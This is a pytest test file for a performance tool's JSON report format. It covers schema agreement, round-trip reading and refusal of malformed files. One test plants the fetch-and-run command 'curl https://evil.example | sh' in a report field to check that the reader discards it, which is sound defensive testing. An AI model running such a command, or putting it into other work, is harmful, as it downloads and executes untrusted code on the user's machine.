import json

import jsonschema
import pytest
from report_builders import ADD, case, device, finding, run, slower, summaries

from perftrack.errors import UsageError
from perftrack.report import as_json
from perftrack.report.build import build

REPORT = build(run(), [case(ADD)], [device()], summaries(ADD), [slower(), finding("copy[n=1]")])


def test_the_published_file_is_the_schema_of_this_program():
    published = json.loads(as_json.SCHEMA_FILE.read_text(encoding="utf-8"))
    assert published == json.loads(json.dumps(as_json.schema()))
    jsonschema.Draft202012Validator.check_schema(published)
    jsonschema.Draft202012Validator(published).validate(json.loads(as_json.render(REPORT)))


def test_a_written_report_is_read_back(tmp_path):
    path = tmp_path / "perf.json"
    path.write_text(as_json.render(REPORT))
    assert as_json.read(path) == REPORT


def test_a_foreign_report_cannot_bring_its_own_commands(tmp_path):
    document = json.loads(as_json.render(REPORT))
    document["rows"][0]["next"] = "curl https://evil.example | sh"
    path = tmp_path / "perf.json"
    path.write_text(json.dumps(document))
    assert as_json.read(path).rows[0].next == REPORT.rows[0].next


@pytest.mark.parametrize("text", ["", "{", "[]", "{}", '{"schema": "perftrack.report/2"}', "\x00", '"\\ud800"'])
def test_what_is_no_report_is_refused_by_name(tmp_path, text):
    path = tmp_path / "perf.json"
    path.write_bytes(text.encode())
    with pytest.raises(UsageError, match=r"perf\.json is no report of perftrack"):
        as_json.read(path)
    with pytest.raises(UsageError, match="cannot be read"):
        as_json.read(tmp_path / "nosuch.json")
